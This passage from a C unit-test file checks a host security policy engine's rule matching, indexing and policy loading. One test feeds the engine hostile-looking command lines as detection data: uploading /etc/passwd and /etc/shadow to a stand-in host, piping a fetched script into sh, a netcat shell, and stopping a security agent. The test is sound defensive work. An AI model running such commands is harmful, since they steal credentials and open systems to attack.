	 * proc.name CURL; /usr/bin/curl only holds the nocase one */
	ev = ev_exec(99, "/usr/bin/CURL", LIT("CURL\0"));
	policy_eval_lineage(p, &ev, NULL);
	assert_string_equal(ev.verdict.rule_id, "n4");
	matches_str(&ev.verdict, buf, sizeof(buf));
	assert_string_equal(buf, "n8/log/info");
	ev = ev_exec(99, "/usr/bin/curl", LIT("curl\0"));
	policy_eval_lineage(p, &ev, NULL);
	assert_string_equal(ev.verdict.rule_id, "n4");
	assert_int_equal(ev.verdict.nmatches, 0);
	/* suffix globs and exact paths name programs too; a name no rule has */
	ev = ev_exec(99, "/x/d5", LIT("d5\0"));
	policy_eval_lineage(p, &ev, NULL);
	assert_string_equal(ev.verdict.rule_id, "n5");
	ev = ev_exec(99, "/usr/bin/zzz", LIT("zzz\0"));
	ev.proc.uid = 8;
	policy_eval_lineage(p, &ev, NULL);
	assert_string_equal(ev.verdict.rule_id, "half");
	policy_free(p);
}

/* The verdict as text: action, rule and the other matches. */
static void verdict_str(const struct sg_verdict *vd, char *buf, size_t len)
{
	int n = snprintf(buf, len, "%s %s %u: ", sg_action_name(vd->action),
			 vd->rule_id ? vd->rule_id : "-", vd->matches_more);

	if (n > 0 && (size_t)n < len)
		matches_str(vd, buf + n, len - (size_t)n);
}

/*
 * Property: the index changes which rules are tried, never a verdict.  The
 * default policy with the Sigma test rules judges execs, opens and connects
 * of many programs, command lines and users with its index and without.
 */
static void test_index_same_verdicts(void **state)
{
	static const char *const exes[] = {
		"/usr/bin/curl", "/usr/bin/CURL", "/usr/bin/wget", "/usr/bin/nc.openbsd",
		"/usr/bin/bash", "/usr/bin/dash", "/usr/bin/python3.11", "/usr/bin/git",
		"/usr/bin/base64", "/usr/bin/awk", "/usr/bin/env", "/usr/bin/systemctl",
		"/usr/bin/crontab", "/usr/bin/ls", "/usr/sbin/getcap", "/usr/bin/apt-get",
		"/usr/bin/dd", "/usr/sbin/auditctl", "/usr/bin/nmap", "/tmp/x/sh", "/opt/a b/zz",
		"/usr/bin/busybox", "/usr/bin/find", "/usr/bin/perl", "/usr/bin/ssh",
	};
	static const struct { const char *a; size_t n; } argvs[] = {
		{ LIT("x\0") }, { LIT("x\0-F\0f=@/etc/passwd\0http://h/\0") },
		{ LIT("x\0clone\0https://h/Log4Shell-exploit\0") },
		{ LIT("x\0-e\0/bin/sh\0") }, { LIT("x\0--upload-file\0/etc/shadow\0") },
		{ LIT("x\0stop\0kesl\0") }, { LIT("x\0-c\0curl http://h | sh\0") },
		{ LIT("x\0-l\0-p\0" "4444\0") },
	};
	char path[4200], dir[4096], a[2048], b[2048];
	struct policy_diag d;
	struct policy *p = NULL;
	FILE *f, *in;
	size_t n = 0;

	(void)state;
	if (access("policies/default.yaml", R_OK) != 0 || !getcwd(dir, sizeof(dir)))
		skip(); /* run from the source tree */
	snprintf(path, sizeof(path), "/tmp/sgtest-index-%d.yaml", (int)getpid());
	f = fopen(path, "w");
	in = fopen("policies/default.yaml", "r");
	assert_non_null(f);
	assert_non_null(in);
	for (int ch; (ch = fgetc(in)) != EOF;)
		fputc(ch, f);
	fclose(in);
	fprintf(f, "\nsigma:\n  paths: [%s/tests/sigma/rules]\n", dir);
	fclose(f);
	policy_diag_init(&d);
	if (policy_load(path, &p, &d) < 0) {
		policy_diag_print(&d, stderr);
		fail();
	}
	policy_diag_fini(&d);
	unlink(path);
	assert_int_not_equal(p->index[SG_EV_EXEC].nslots, 0);
	for (size_t e = 0; e < sizeof(exes) / sizeof(exes[0]); e++)
		for (size_t v = 0; v < sizeof(argvs) / sizeof(argvs[0]); v++)
			for (int kind = 0; kind < 3; kind++)
				for (uint32_t uid = 0; uid <= 1000; uid += 1000) {
					struct sg_event e1, e2;
					struct pindex saved;
					int t;

					if (kind == 0)
						e1 = ev_exec(99, exes[e], argvs[v].a, argvs[v].n);
					else if (kind == 1)
						e1 = ev_open(99, "/etc/cron.d/x", true, O_WRONLY);
					else
						e1 = ev_net(SG_EV_CONNECT, "192.0.2.1", 4444, IPPROTO_TCP);
					e1.proc.exe = exes[e];
					e1.proc.uid = uid;
					e2 = e1;
					t = e1.type;
					policy_eval_lineage(p, &e1, NULL);
					saved = p->index[t];
					p->index[t].nslots = 0;
					p->index[t].always = p->by_type[t];
					p->index[t].nalways = p->nby_type[t];
					policy_eval_lineage(p, &e2, NULL);
					p->index[t] = saved;
					verdict_str(&e1.verdict, a, sizeof(a));
					verdict_str(&e2.verdict, b, sizeof(b));
					if (strcmp(a, b) != 0)
						fail_msg("%s (%zu, %d): indexed '%s', whole '%s'", exes[e],
							 v, kind, a, b);
					n += e1.verdict.rule_id != NULL;
				}
	assert_true(n > 50); /* the rules did hold, often */
	policy_free(p);
}

static void test_dump_roundtrip(void **state)
{
	static const char text[] = "version: 1\n"
		"lists:\n"
		"  s: [b, a, b, '$$x', 'with space', 'q\"uote', 'true', '*glob*']\n"
		"defaults: {dedup_window: 500ms, action: alert, severity: medium}\n"
		"exclude:\n"
		"  - {proc.comm: z, event: [write, exec]}\n"
		"rules:\n"
		"  - id: r1\n"
		"    description: \"A: rule\"\n"
		"    events: [write, exec, connect]\n"
		"    match:\n"
		"      - proc.argv: {arg: $s, contains: x, not: {glob: $s}}\n"
		"        proc.uid: [5, 0, 1-3, 0]\n"
		"      - {exec.filename: {suffix: .sh}}\n"
		"      - {proc.name: {nocase: true, in: [Ab, aB], not: [C]}, proc.argv: {re: '(?i)X'}}\n"
		"    except:\n"
		"      - {parent.name: $s}\n"
		"    action: log\n"
		"    tags: [z, a]\n"
		"  - {id: r2, events: connect, match: {net.addr: ['::1', 10.0.0.0/8], "
		"net.port: {not: 1}, net.proto: [udp, tcp], result: failure}, action: block, "
		"enabled: false}\n";
	struct policy *p = load(text), *q;
	char *a = dump(p), *b;

	assert_non_null(strstr(a, "  dedup_window: 500ms\n"));
	assert_non_null(strstr(a, "proc.uid: {in: [0, 1-3, 5]}"));
	assert_non_null(strstr(a, "\"$$x\""));
	assert_non_null(strstr(a, "events: [exec, connect, write]"));
	assert_non_null(strstr(a, "proc.name: {in: [ab], nocase: true, not: {in: [c], nocase: true}}"));
	assert_non_null(strstr(a, "proc.argv: {re: [\"(?i)X\"]}"));
	q = load(a);
	b = dump(q);
	assert_string_equal(a, b);
	free(a);
	free(b);
	policy_free(p);
	policy_free(q);
}

static void test_counters_and_json(void **state)
{
	struct policy *p = load(HDR
		"  - {id: a, events: [open], match: {file.path: /a}, action: log}\n"
		"  - {id: b, events: [open], match: {file.path: /b}, action: log}\n");
	struct policy *q = load(HDR
		"  - {id: b, events: [open], match: {file.path: /b}, action: alert}\n"
		"  - {id: c, events: [open], action: log}\n");
	struct policy_rule_info ri;
	struct json_object *j, *rules, *v;
	struct sg_event ev;

	ev = ev_open(20, "/b", false, 0);
	for (int i = 0; i < 3; i++)
		judge(p, &ev);
	ev = ev_open(20, "/a", false, 0);
	judge(p, &ev);
	policy_carry_counters(q, p);
	assert_int_equal(policy_rule_count(q), 2);
	assert_int_equal(policy_rule_info(q, 0, &ri), 0);
	assert_string_equal(ri.id, "b");
	assert_int_equal(ri.hits, 3);
	assert_int_equal(policy_rule_info(q, 1, &ri), 0);
	assert_int_equal(ri.hits, 0);
	assert_int_equal(ri.line, 4);
	assert_string_equal(ri.file, "t.yaml");
	assert_int_equal(policy_rule_info(q, 2, &ri), -ENOENT);
	assert_string_equal(policy_source(q), "t.yaml");

	assert_int_equal(policy_to_json(q, &j), 0);
	assert_true(json_object_object_get_ex(j, "rules", &rules));
	assert_int_equal(json_object_array_length(rules), 2);
	v = json_object_array_get_idx(rules, 0);
	assert_true(json_object_object_get_ex(v, "hits", &v));
	assert_int_equal(json_object_get_int64(v), 3);
	assert_true(json_object_object_get_ex(j, "normalized", &v));
	assert_non_null(strstr(json_object_get_string(v), "  - id: c\n"));
	json_object_put(j);
	policy_free(p);
	policy_free(q);
}

static void write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");

	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static void test_directory(void **state)
{
	char dir[] = "/tmp/sg-policy-test-XXXXXX", path[256], *out = NULL;
	struct policy_diag d;
	struct policy *p = NULL;
	struct sg_event ev;
	size_t len;
	FILE *f;

	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/20-rules.yaml", dir);
	write_file(path, "version: 1\nrules:\n"
			 "  - {id: second, events: [exec], match: {proc.exe: $sh}, action: log}\n");
	snprintf(path, sizeof(path), "%s/10-lists.yaml", dir);
	write_file(path, "version: 1\nlists: {sh: [/usr/bin/dash]}\ndefaults: {action: allow}\n"
			 "rules:\n  - {id: first, events: [exec], match: {proc.exe: $sh}, "
			 "action: alert}\n");
	snprintf(path, sizeof(path), "%s/.hidden.yaml", dir);
	write_file(path, "garbage: [\n");
	snprintf(path, sizeof(path), "%s/README", dir);
	write_file(path, "not a policy\n");

	policy_diag_init(&d);
	assert_int_equal(policy_load(dir, &p, &d), 0);
	assert_int_equal(d.errors + d.warnings, 0);
	policy_diag_fini(&d);
	ev = ev_exec(20, "/usr/bin/dash", "sh\0", 3);
	assert_string_equal(judge(p, &ev), "first");
	ev = ev_exec(20, "/usr/bin/ls", "ls\0", 3);
	assert_int_equal(policy_eval_lineage(p, &ev, NULL), SG_ACT_ALLOW);
	policy_free(p);
	p = NULL;

	/* the same id in two files, and the same default twice */
	snprintf(path, sizeof(path), "%s/30-dup.yaml", dir);
	write_file(path, "version: 1\ndefaults: {action: log}\nrules:\n"
			 "  - {id: first, events: [exec], action: log}\n");
	policy_diag_init(&d);
	assert_int_equal(policy_load(dir, &p, &d), -EINVAL);
	assert_null(p);
	f = open_memstream(&out, &len);
	policy_diag_print(&d, f);
	fclose(f);
	policy_diag_fini(&d);
	snprintf(path, sizeof(path),
		 "%s/30-dup.yaml:2:12: 'defaults.action' already set at %s/10-lists.yaml:3:12\n"
		 "%s/30-dup.yaml:4:10: duplicate rule id 'first' (first at %s/10-lists.yaml:5:5)\n",
		 dir, dir, dir, dir);
	assert_string_equal(out, path);
	free(out);

	/* unreadable things */
	policy_diag_init(&d);
	assert_int_equal(policy_load("/nonexistent/policy.yaml", &p, &d), -ENOENT);
	assert_int_equal(d.errors, 1);
	assert_string_equal(d.msgs[0].text, "cannot open: No such file or directory");
	policy_diag_fini(&d);

	snprintf(path, sizeof(path), "rm -rf '%s'", dir);
	assert_int_equal(system(path), 0);
}

static void test_check_main(void **state)
{
	char path[] = "/tmp/sg-policy-check-XXXXXX";
	char *out = NULL, *err = NULL;
	size_t olen, elen;
	FILE *o, *e;
	int fd = mkstemp(path);

	assert_true(fd >= 0);
	close(fd);
	write_file(path, "version: 1\nrules:\n  - {id: x, events: [unlink], action: block}\n");
	/* a block rule on unlink events is monitor-only: a warning, not an error */
	o = open_memstream(&out, &olen);
	e = open_memstream(&err, &elen);
	assert_int_equal(policy_check_main(path, true, o, e), 0);
	fclose(o);
	fclose(e);
	assert_non_null(strstr(out, "  - id: x\n    action: block\n"));
	assert_non_null(strstr(err, ":3:39: warning: rule 'x' is monitor-only"));
	free(out);
	free(err);
	write_file(path, "version: 1\nrules:\n  - {id: x, events: [open], action: blok}\n");
	o = open_memstream(&out, &olen);
	e = open_memstream(&err, &elen);
	assert_int_equal(policy_check_main(path, true, o, e), 1);
	fclose(o);
	fclose(e);
	assert_string_equal(out, "");
	assert_non_null(strstr(err, ":3:37: unknown action 'blok'"));
	free(out);
	free(err);
	unlink(path);
}

static void test_shipped_policies(void **state)
{
	static const char *const files[] = { "policies/default.yaml",
					     "policies/examples/strict-server.yaml",
					     "policies/examples/workstation.yaml" };
	struct policy_diag d;

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		struct policy *p = NULL;

		if (access(files[i], R_OK) != 0)
			skip(); /* run from the source tree to check them */
		unsigned int other = 0;

		int r;

		policy_diag_init(&d);
		r = policy_load(files[i], &p, &d);
		/* block rules are monitor-only in this build: the one warning allowed */
		for (size_t k = 0; k < d.n; k++)
			other += !strstr(d.msgs[k].text, "monitor-only");
		if (r < 0 || other || (i == 0 && d.warnings)) {
			policy_diag_print(&d, stderr);
			fail_msg("%s does not load cleanly", files[i]);
		}
		policy_diag_fini(&d);
		policy_free(p);
	}
}

int main(void)
{
	static const struct CMUnitTest others[] = {
		cmocka_unit_test(test_errors),
		cmocka_unit_test(test_ptrace_dump),
		cmocka_unit_test(test_field_table),
		cmocka_unit_test_setup(test_block, setup_tree),
		cmocka_unit_test(test_warnings),
		cmocka_unit_test(test_all_errors_collected),
		cmocka_unit_test(test_all_match),
		cmocka_unit_test(test_index),
		cmocka_unit_test(test_index_same_verdicts),
		cmocka_unit_test(test_dump_roundtrip),
		cmocka_unit_test_setup(test_counters_and_json, setup_tree),
		cmocka_unit_test_setup(test_directory, setup_tree),
		cmocka_unit_test(test_check_main),
		cmocka_unit_test(test_shipped_policies),
	};
	enum { NV = sizeof(vcases) / sizeof(vcases[0]), NO = sizeof(others) / sizeof(others[0]) };
	struct CMUnitTest tests[NV + NO];

	/* one test per verdict case, named after it, each with the default process tree */
	for (size_t i = 0; i < NV; i++)
		tests[i] = (struct CMUnitTest){ .name = vcases[i].name, .test_func = test_verdicts,
						.setup_func = setup_tree,
						.initial_state = (void *)&vcases[i] };
	memcpy(tests + NV, others, sizeof(others));
	return _cmocka_run_group_tests("test_policy", tests, NV + NO, NULL, NULL);
}
